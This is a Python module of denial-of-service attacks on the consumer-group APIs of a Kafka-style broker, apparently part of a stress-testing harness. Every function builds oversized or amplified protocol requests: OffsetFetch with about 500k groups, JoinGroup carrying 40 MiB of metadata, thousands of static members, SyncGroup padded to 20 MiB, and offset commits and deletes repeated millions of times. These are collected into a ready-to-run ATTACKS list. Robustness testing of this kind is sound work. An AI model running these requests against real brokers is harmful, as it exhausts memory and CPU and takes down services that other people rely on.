"""Attacks on consumer groups: many names, many members, members that wait, what leaders assign.

As attacks.py says of all.  Members end with their sessions, so that an attack finds no group full.
"""
import struct
import time

import raw
from sender import compact, frame, frame_of, i32, padded, text
from targets import BIG_TOPIC, ELEMENTS

HOLD_SECONDS = 3
SESSION_MS = 30000


def offset_fetch_of_500k_groups(sender):
    for groups in (b"\2g\0\0" * ELEMENTS,
                   b"".join(compact("%06d" % n) + b"\0\0" for n in range(ELEMENTS))):
        body = raw.uvarint(ELEMENTS + 1) + groups + b"\0\0"
        sender.ask_times("OffsetFetch", frame_of(9, 8, body, True), 2)


def offset_commit_of_200k_partitions(sender):
    sender.ask("OffsetCommit", frame("OffsetCommit", 7, {"GroupId": "attack", "Topics": [
        {"Name": BIG_TOPIC, "Partitions": [{"PartitionIndex": n, "CommittedMetadata": "m" * 20}
                                           for n in range(200000)]}]}))


def joins_with_40_MiB_of_metadata(sender):
    join = frame("JoinGroup", 2, {
        "GroupId": "attack", "SessionTimeoutMs": 1800000, "RebalanceTimeoutMs": 2147483647,
        "ProtocolType": "consumer", "Protocols": [{"Name": "p", "Metadata": b"m" * (40 << 20)}]})
    sender.push(12, join, 4)


def joins_with_1_MiB_in_100_groups(sender):
    for n in range(100):
        s = sender.connect()
        s.sendall(frame("JoinGroup", 2, {
            "GroupId": "attack-%d" % n, "SessionTimeoutMs": 6000, "RebalanceTimeoutMs": 6000,
            "ProtocolType": "consumer",
            "Protocols": [{"Name": "p", "Metadata": b"m" * (1 << 20)}]}))
        s.close()


# ---- joins and leaves

def join_of(group, protocols, instance=None, session_ms=SESSION_MS, version=5):
    return frame("JoinGroup", version, member(group, protocols, instance, session_ms))


def member(group, protocols, instance=None, session_ms=SESSION_MS):
    return {"GroupId": group, "SessionTimeoutMs": session_ms, "RebalanceTimeoutMs": session_ms,
            "GroupInstanceId": instance, "ProtocolType": "consumer",
            "Protocols": [{"Name": name, "Metadata": b""} for name in protocols]}


def joins_that_vote_over_2000_static_members(sender):
    """Each joiner's 100 protocols are looked for among the 100 of everybody; one member lacks them."""
    names = ["%x" % n for n in range(99)]
    for n in range(2000):
        s = sender.connect()
        s.sendall(join_of("vote", [*names, "z"], "i%d" % n))
        s.close()
    s = sender.connect()
    s.sendall(join_of("vote", ["z"], "last"))
    s.close()
    sender.pipeline("JoinGroup", [join_of("vote", [*names, "q"])] * 100)


def leaves_of_260k_ids_beside_9000_pending(sender):
    ask = join_of("leave", ["a"])  # answered with an id, which is kept until it is used
    for _ in range(9):
        sender.pipeline("JoinGroup", [ask] * 1000)
    members = raw.uvarint(ELEMENTS + 1) + b"\1\0\0" * ELEMENTS
    sender.ask("LeaveGroup", frame_of(13, 4, compact("leave") + members + b"\0", True))


def list_groups_with_a_million_filters(sender):
    sender.pipeline("JoinGroup", [join_of("list-%d" % n, ["a"]) for n in range(2000)])
    filters = raw.uvarint(ELEMENTS + 1) + b"\1" * ELEMENTS
    sender.ask_times("ListGroups", frame_of(16, 4, filters + b"\0", True), 4)


# ---- members that wait

def syncs_that_wait_with_20_MiB(sender):
    """Two followers wait for a leader that sends nothing."""
    joins = [member("sync", ["a"], "i%d" % n) for n in range(3)]
    kept = [raw.Connection(sender.address, timeout_s=30) for _ in joins]
    joins[0]["MemberId"] = kept[0].ask("JoinGroup", 5, joins[0])["MemberId"]
    for n in (1, 2, 0):  # the others wait for the first
        kept[n].send("JoinGroup", 5, joins[n])
        time.sleep(0.1)
    for n, told in enumerate([c.receive() for c in kept]):
        if n == 0 or told["ErrorCode"]:
            continue
        try:
            s = sender.connect()
            s.settimeout(1)
            s.sendall(padded("SyncGroup", 4, {
                "GroupId": "sync", "GenerationId": told["GenerationId"],
                "MemberId": told["MemberId"], "GroupInstanceId": "i%d" % n}, 20 << 20))
        except OSError:
            sender.refused += 1
    time.sleep(HOLD_SECONDS)
    for c in kept:
        c.close()


def joins_that_wait_with_60_kB_by_800(sender):
    """They wait for a static member that has gone."""
    sender.ask("JoinGroup", join_of("wait", ["a"], "gone"))
    for n in range(800):
        try:
            s = sender.connect()
            s.settimeout(1)
            s.sendall(padded("JoinGroup", 6, member("wait", ["a"], "i%d" % n), 60000))
        except OSError:
            sender.refused += 1
    time.sleep(HOLD_SECONDS)


# ---- what is kept

def assignments_of_12_MB_in_40_groups(sender):
    c = raw.Connection(sender.address, timeout_s=30)
    for n in range(40):
        c.send("JoinGroup", 3, {"GroupId": "assign-%d" % n, "SessionTimeoutMs": SESSION_MS,
                                "RebalanceTimeoutMs": SESSION_MS, "ProtocolType": "consumer",
                                "Protocols": [{"Name": "range", "Metadata": b""}]})
    for n, told in enumerate([c.receive() for _ in range(40)]):
        if told["ErrorCode"]:
            sender.refused += 1
            continue
        sender.ask("SyncGroup", frame("SyncGroup", 2, {
            "GroupId": "assign-%d" % n, "GenerationId": told["GenerationId"],
            "MemberId": told["MemberId"], "Assignments": [
                {"MemberId": told["MemberId"], "Assignment": bytes(12000000)}]}))
    c.close()


def offset_commit_of_one_partition_700k_times(sender):
    one = struct.pack(">iqih", 0, 5, -1, 0)
    body = text("attack") + i32(-1) + text("") + i32(1) + text(BIG_TOPIC) + i32(ELEMENTS)
    sender.ask_times("OffsetCommit", frame_of(8, 6, body + one * ELEMENTS), 3)


def offset_delete_of_one_partition_4M_times(sender):
    sender.ask("OffsetCommit", frame("OffsetCommit", 6, {"GroupId": "delete", "Topics": [
        {"Name": BIG_TOPIC, "Partitions": [{"PartitionIndex": 0}]}]}))
    body = text("delete") + i32(1) + text(BIG_TOPIC) + i32(ELEMENTS) + bytes(4 * ELEMENTS)
    sender.ask_times("OffsetDelete", frame_of(47, 0, body), 16)


ATTACKS = [
    offset_fetch_of_500k_groups, offset_commit_of_200k_partitions, joins_with_40_MiB_of_metadata,
    joins_with_1_MiB_in_100_groups, joins_that_vote_over_2000_static_members,
    leaves_of_260k_ids_beside_9000_pending, list_groups_with_a_million_filters,
    syncs_that_wait_with_20_MiB, joins_that_wait_with_60_kB_by_800,
    assignments_of_12_MB_in_40_groups, offset_commit_of_one_partition_700k_times,
    offset_delete_of_one_partition_4M_times,
]
